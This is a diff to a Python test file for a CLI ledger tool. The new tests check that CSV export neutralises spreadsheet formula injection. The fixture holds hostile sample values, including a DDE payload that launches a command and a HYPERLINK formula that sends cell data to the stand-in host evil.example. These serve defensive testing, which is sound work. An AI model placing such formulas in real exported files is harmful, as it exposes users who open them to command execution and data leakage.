@@ -158,8 +158,8 @@ def test_export_writes_what_list_shows(team: Cli, tmp_path: Path) -> None:
 def test_export_to_stdout(team: Cli) -> None:
     team.ok("prospect", "add", "a.lead")
     printed = team.ok("export", "-").stdout
-    assert printed.splitlines()[0].startswith("handle,status,owner_actor")
-    assert printed.splitlines()[1].startswith("a.lead,new,")
+    assert printed.splitlines()[0].startswith('"handle","status","owner_actor"')
+    assert printed.splitlines()[1].startswith('"a.lead","new",')
 
 
 def test_a_refused_export_leaves_no_file_behind(team: Cli, tmp_path: Path) -> None:
@@ -167,3 +167,68 @@ def test_a_refused_export_leaves_no_file_behind(team: Cli, tmp_path: Path) -> No
     folder.mkdir()
     refused(team("export", str(folder / "out.csv"), "--status", "lukewarm"), 1, "lukewarm")
     assert list(folder.iterdir()) == []
+
+
+# Notes a teammate (or another tool writing the cloud) may have left, each starting with
+# something a spreadsheet runs as a formula.
+FORMULA_NOTES = {
+    "eq.lead": "=cmd|' /C calc'!A0",
+    "plus.lead": "+1+1",
+    "minus.lead": "-2+3",
+    "at.lead": "@SUM(1,2)",
+    "link.lead": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "mark.lead": "'=already marked",
+    "semi.lead": "fine;=1+1",
+    "tab.lead": "\t=1+1",
+    "cr.lead": "\r=1+1",
+    "lf.lead": "\n=1+1",
+}
+
+
+def put_notes(home: Path, notes: dict[str, str]) -> None:
+    """Write the notes as a pull would: straight into the cache, unvalidated."""
+    from dmledger.app.ledger import Ledger
+    from dmledger.domain.records import Prospect
+
+    ledger = Ledger.open(home)
+    try:
+        with ledger.local.transaction() as conn:
+            for handle, text in notes.items():
+                ledger.local.put_prospect(conn, Prospect(handle, "new", notes=text))
+    finally:
+        ledger.close()
+
+
+def test_export_marks_every_formula_cell_as_text_and_import_gives_the_text_back(
+    team: Cli, home: Path, tmp_path: Path
+) -> None:
+    put_notes(home, FORMULA_NOTES)
+    target = tmp_path / "out.csv"
+    team.ok("export", str(target))
+    raw = target.read_text(encoding="utf-8")
+    with target.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.reader(handle))
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), row
+    exported = {row[0]: row[6] for row in rows[1:]}
+    assert exported["eq.lead"] == "'=cmd|' /C calc'!A0"
+    assert exported["mark.lead"] == "''=already marked"
+    assert exported["tab.lead"] == "'\t=1+1"
+    assert '"fine;=1+1"' in raw  # quoted: a ;-separated spreadsheet keeps it one cell
+
+    other = initialised(tmp_path / "other-home")
+    report = json.loads(other.ok("--json", "import", str(target)).stdout)
+    assert report["added"] == len(FORMULA_NOTES)
+    for handle, text in FORMULA_NOTES.items():
+        shown = json.loads(other.ok("--json", "prospect", "show", handle, "--local").stdout)
+        # Notes are trimmed wherever they come in: a leading tab or line break goes.
+        assert shown["notes"] == text.strip(), handle
+
+
+def test_the_export_of_notes_set_through_the_cli_is_safe_too(team: Cli, tmp_path: Path) -> None:
+    for lead in ("=", "+", "-", "@"):
+        team.ok("prospect", "add", f"lead{ord(lead)}", "--notes", f"{lead}1+1")
+    printed = team.ok("export", "-").stdout
+    cells = [cell for row in csv.reader(printed.splitlines()) for cell in row]
+    assert sorted(c for c in cells if c.endswith("1+1")) == ["'+1+1", "'-1+1", "'=1+1", "'@1+1"]
